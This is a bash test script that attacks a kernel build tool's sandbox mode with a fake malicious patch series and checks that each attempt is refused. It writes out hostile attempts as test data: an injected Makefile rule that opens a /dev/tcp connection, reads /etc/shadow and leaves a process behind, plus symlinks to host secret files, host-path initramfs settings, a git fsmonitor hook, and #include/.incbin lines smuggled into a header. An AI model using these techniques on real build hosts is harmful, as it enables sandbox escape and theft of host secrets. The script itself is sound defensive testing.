#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
# A series under review is a stranger's code: what it would do to the host
# through build.sh --sandbox, tried as the attacker would, on a tiny fake
# kernel tree (fake-kernel.sh: a Makefile that plays allnoconfig,
# olddefconfig and bzImage, and a raw BTF blob as its vmlinux) so that
# each attempt takes seconds:
#  - its Makefile records `id -u`, writes into a baseline's meson-logs/,
#    connects to a listener on the host's loopback, and leaves a process
#    behind;
#  - a patch makes kernel/configs/kvm_guest.config a symlink to a 0600
#    host file;
#  - a --config fragment asks for CONFIG_INITRAMFS_SOURCE="/root /etc/shadow";
#  - a --source git tree whose core.fsmonitor records `id -u`;
#  - code of the series' uid rewrites its vmlinux.h with #include of a host
#    file, and makes its bzImage a symlink to one;
#  - vmlinux.h texts that read host files in other ways.
#
#   test-series-sandbox.sh SOURCE_ROOT
set -u
. "$(dirname "$0")/../../lab/tests/tap.sh"
[ $# -eq 1 ] || { echo "Bail out! usage: test-series-sandbox.sh SOURCE_ROOT"; exit 1; }
root=$(realpath "$1")
build_sh=$root/kernel/build.sh sandbox=$root/kernel/sandbox.sh check_h=$root/kernel/check-vmlinux-h.sh
. "$root/kernel/tests/fake-kernel.sh"
fake_kernel_need
command -v python3 >/dev/null || { echo "1..0 # SKIP python3 is missing"; exit 0; }
tap_tmpdir
# The sandbox's uid reads the fake tree; the baseline and secret do not open.
chmod 755 "$tmp"
mkdir -p "$tmp/baseline/meson-logs" "$tmp/secret"
chmod 700 "$tmp/secret"
echo "root-only secret" >"$tmp/secret/key"
chmod 600 "$tmp/secret/key"
uid=$("$sandbox" --uid)

fake_kernel "$tmp/tree" --git
echo "CONFIG_NET=y" >"$tmp/frag.config"

# A listener on the host's loopback: a connection from the series would
# write "connected" into its log.
port=$(python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])')
python3 - "$port" "$tmp/listener.log" <<'EOF' &
import socket, sys
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(4); s.settimeout(60)
try:
    c, _ = s.accept(); open(sys.argv[2], "w").write("connected\n")
except socket.timeout:
    pass
EOF
listener=$!
trap 'kill $listener 2>/dev/null; [ -n "${KEEP:-}" ] || rm -rf "$tmp"' EXIT
sleep 0.3

# mail FILE SUBJECT: commit the tree's changes as one patch in FILE, then
# reset the tree.
mail() {
	git -C "$tmp/tree" add -A
	git -C "$tmp/tree" -c user.name=Mallory -c user.email=m@example.invalid commit -q -m "$2"
	git -C "$tmp/tree" format-patch -q --stdout -1 >"$1"
	git -C "$tmp/tree" reset -q --hard HEAD~1
}
# The attack: allnoconfig also runs the series' commands.
python3 - "$tmp/tree/Makefile" "$tmp/baseline/meson-logs" "$port" <<'EOF'
import sys
p, logs, port = sys.argv[1:]
s = open(p).read()
s = s.replace("allnoconfig:\n", "allnoconfig:\n"
    "\tid -u >$(O)/canary.uid\n"
    "\t(echo forged >" + logs + "/testlog.json && echo written || echo refused) >$(O)/canary.write 2>&1\n"
    "\t(bash -c 'echo hi >/dev/tcp/127.0.0.1/" + port + "' && echo connected || echo refused) >$(O)/canary.net 2>&1\n"
    "\t(cat /etc/shadow >/dev/null 2>&1 && echo read || echo refused) >$(O)/canary.shadow\n"
    "\tsetsid sh -c 'sleep 30; echo late >$(O)/canary.late' >/dev/null 2>&1 &\n"
    "\tps -eo pid,comm >$(O)/canary.ps\n", 1)
open(p, "w").write(s)
EOF
mail "$tmp/attack.mbx" "kbuild: speed up allnoconfig"
ln -s "$tmp/secret/key" "$tmp/tree/kernel/configs/kvm_guest.config.new"
mv "$tmp/tree/kernel/configs/kvm_guest.config.new" "$tmp/tree/kernel/configs/kvm_guest.config"
mail "$tmp/symlink.mbx" "kvm_guest.config: share the host's"
echo 'CONFIG_INITRAMFS_SOURCE="/root /etc/shadow"' >"$tmp/initramfs.config"

# build NAME ARGS...: build.sh --sandbox on the fake tree into $tmp/NAME;
# $rc, $out (stdout and stderr), $kd (its output directory).
build() {
	local name=$1
	shift
	kd=$tmp/$name
	out=$("$build_sh" --out "$kd" --source "$tmp/tree" --netpoll false --sandbox \
		--fragment "$tmp/frag.config" --localversion -t "$@" 2>&1)
	rc=$?
}

echo "# the series' Makefile records id -u, writes into a baseline's meson-logs/, connects to 127.0.0.1:$port, reads /etc/shadow and leaves a process behind"
t0=$(date +%s)
build attack --user-patches "$tmp/attack.mbx"
t $([ "$rc" = 0 ] && echo 0) "the attacking series still builds (exit $rc) in $(($(date +%s) - t0)) s"
[ "$rc" = 0 ] || tail -n 20 <<<"$out" | sed 's/^/#   /'
o=$kd/obj
t $([ -s "$o/canary.uid" ] && [ "$(cat "$o/canary.uid")" = "$uid" ] && echo 0) \
	"its Makefile ran as uid $(cat "$o/canary.uid" 2>/dev/null || echo none), not 0 (the sandbox's is $uid)"
t $([ "$(cat "$o/canary.write" 2>/dev/null | tail -1)" = refused ] && [ ! -e "$tmp/baseline/meson-logs/testlog.json" ] && echo 0) \
	"its write into the baseline's meson-logs/ failed ($(tail -1 "$o/canary.write" 2>/dev/null))"
t $([ "$(tail -1 "$o/canary.net" 2>/dev/null)" = refused ] && [ ! -s "$tmp/listener.log" ] && echo 0) \
	"its connection to the host's 127.0.0.1:$port failed, and the listener saw none"
t $([ "$(cat "$o/canary.shadow" 2>/dev/null)" = refused ] && echo 0) "it could not read /etc/shadow"
t $(! grep -qvE 'PID|sleep|sh|make|bash|bwrap|setpriv|ps' "$o/canary.ps" 2>/dev/null && [ "$(wc -l <"$o/canary.ps")" -lt 20 ] && echo 0) \
	"it saw only the sandbox's processes ($(($(wc -l <"$o/canary.ps") - 1)) of them)"
grep -vE 'PID|sleep|sh|make|bash|bwrap|setpriv|ps' "$o/canary.ps" 2>/dev/null | sed 's/^/# not the sandbox'"'"'s: /'
sleep 1
# By what it runs, whoever's: another sandboxed build may run beside this
# test as the same uid.
t $([ -z "$(pgrep -f "$tmp/.*canary.late")" ] && echo 0) "nothing it started runs once the build is over (the process it left was killed)"
t $([ -f "$kd/bzImage" ] && [ ! -L "$kd/bzImage" ] && [ "$(stat -c %u "$kd/bzImage")" = 0 ] && [ -L "$kd/src" ] && echo 0) \
	"root took its outputs as plain files of its own; src is a link into sbx"
t $([ "$(stat -c %u "$kd")" = 0 ] && [ "$(stat -c %u "$kd/sbx/src")" = "$uid" ] && echo 0) \
	"only sbx/ is the sandbox's; the output directory stays root's"

echo "# code of the sandbox's uid plants '#include \"$tmp/secret/key\"' in its vmlinux.h, then the same build runs again (up to date)"
"$sandbox" --rw "$kd/sbx" -- sh -c 'echo "#include \"$1\"" >>"$2"' - "$tmp/secret/key" "$kd/sbx/out/vmlinux.h"
cp "$kd/vmlinux.h" "$tmp/vmlinux.h.before"
build attack --user-patches "$tmp/attack.mbx"
t $([ "$rc" != 0 ] && printf '%s\n' "$out" | grep -q 'vmlinux.h is not what bpftool writes' && cmp -s "$kd/vmlinux.h" "$tmp/vmlinux.h.before" && echo 0) \
	"the planted vmlinux.h is refused (exit $rc) and the installed one is unchanged"
echo "# ...and makes its bzImage a symlink to /etc/passwd (a file it may stat, so the build stays up to date)"
"$sandbox" --rw "$kd/sbx" -- sh -c 'sed -i "\$d" "$1"; ln -sf /etc/passwd "$2"' - "$kd/sbx/out/vmlinux.h" "$kd/sbx/out/bzImage"
build attack --user-patches "$tmp/attack.mbx"
t $([ "$rc" != 0 ] && printf '%s\n' "$out" | grep -q 'bzImage is not a plain file' && ! cmp -s /etc/passwd "$kd/bzImage" && echo 0) \
	"the symlinked bzImage is refused (exit $rc), /etc/passwd not copied"
echo "# ...and to the 0600 secret"
"$sandbox" --rw "$kd/sbx" -- ln -sf "$tmp/secret/key" "$kd/sbx/out/bzImage"
build attack --user-patches "$tmp/attack.mbx"
t $([ "$rc" = 0 ] && [ ! -L "$kd/bzImage" ] && ! cmp -s "$tmp/secret/key" "$kd/bzImage" && echo 0) \
	"the build ran again (the sandbox cannot see the link's target: exit $rc) and root's bzImage is not the secret"

echo "# a patch makes kernel/configs/kvm_guest.config a symlink to a 0600 host file"
build symlink --user-patches "$tmp/symlink.mbx"
t $([ "$rc" != 0 ] && printf '%s\n' "$out" | grep -q 'symlink to .*outside the tree: refused' && echo 0) \
	"refused (exit $rc): $(printf '%s\n' "$out" | grep -o 'the series makes.*' | head -1)"
t $(! grep -rqs 'root-only secret' "$kd" && echo 0) "the secret is nowhere in its build directory"

echo "# a --config fragment asks for CONFIG_INITRAMFS_SOURCE=\"/root /etc/shadow\""
build initramfs --user-patches "$tmp/attack.mbx" --fragment "$tmp/initramfs.config"
t $([ "$rc" != 0 ] && printf '%s\n' "$out" | grep -q 'CONFIG_INITRAMFS_SOURCE (line 1)' && [ ! -e "$kd/sbx" ] && echo 0) \
	"refused before anything ran (exit $rc): $(printf '%s\n' "$out" | grep -o 'sets the string option [^:]*' | head -1)"

echo "# a series whose Kconfig default is a host path: the config after olddefconfig says INITRAMFS_SOURCE"
sed -i 's|^\tcat $(KCONFIG_ALLCONFIG) >$(O)/$(KCONFIG_CONFIG)$|&; echo CONFIG_INITRAMFS_SOURCE=\\"/etc/shadow\\" >>$(O)/$(KCONFIG_CONFIG)|' "$tmp/tree/Makefile"
mail "$tmp/default.mbx" "initramfs: a default source"
build default --user-patches "$tmp/default.mbx"
t $([ "$rc" != 0 ] && printf '%s\n' "$out" | grep -q 'CONFIG_INITRAMFS_SOURCE="/etc/shadow": a host path' && echo 0) \
	"refused (exit $rc)"

echo "# a --source git tree whose core.fsmonitor records id -u"
git clone -q "$tmp/tree" "$tmp/fsmon"
printf '#!/bin/sh\nid -u >>%s/fsmonitor.uid\n' "$tmp/fsmon" >"$tmp/fsmon/.git/fsmon.sh"
chmod 755 "$tmp/fsmon/.git/fsmon.sh"
git -C "$tmp/fsmon" config core.fsmonitor "$tmp/fsmon/.git/fsmon.sh"
chmod 777 "$tmp/fsmon"
out=$("$build_sh" --out "$tmp/fsmon-out" --source "$tmp/fsmon" --netpoll false --sandbox \
	--fragment "$tmp/frag.config" --user-patches none 2>&1)
rc=$?
t $([ "$rc" = 0 ] && ! grep -qx 0 "$tmp/fsmon/fsmonitor.uid" 2>/dev/null && echo 0) \
	"built (exit $rc); its fsmonitor never ran as root (ran as: $(sort -u "$tmp/fsmon/fsmonitor.uid" 2>/dev/null | tr '\n' ' ')${fsm:-})"

echo "# vmlinux.h texts that would read a host file when root's clang compiles them"
bpftool btf dump file /sys/kernel/btf/vmlinux format c >"$tmp/good.h" 2>/dev/null
"$check_h" "$tmp/good.h"
t $? "bpftool's own dump passes"
for bad in '#include "/etc/shadow"' '%:include "/etc/shadow"' '  #  include </etc/shadow>' \
	'asm(".incbin \"/etc/shadow\"");' '_Pragma("clang attribute push")' \
	'struct a { int x; }; #\' '??=include "/etc/shadow"'; do
	{ head -100 "$tmp/good.h"; printf '%s\n' "$bad"; tail -5 "$tmp/good.h"; } >"$tmp/bad.h"
	err=$("$check_h" "$tmp/bad.h" 2>&1)
	t $([ $? = 1 ] && [ "$(printf '%s\n' "$err" | wc -l)" = 1 ] && echo 0) "refused: $bad ($err)"
done
tap_done
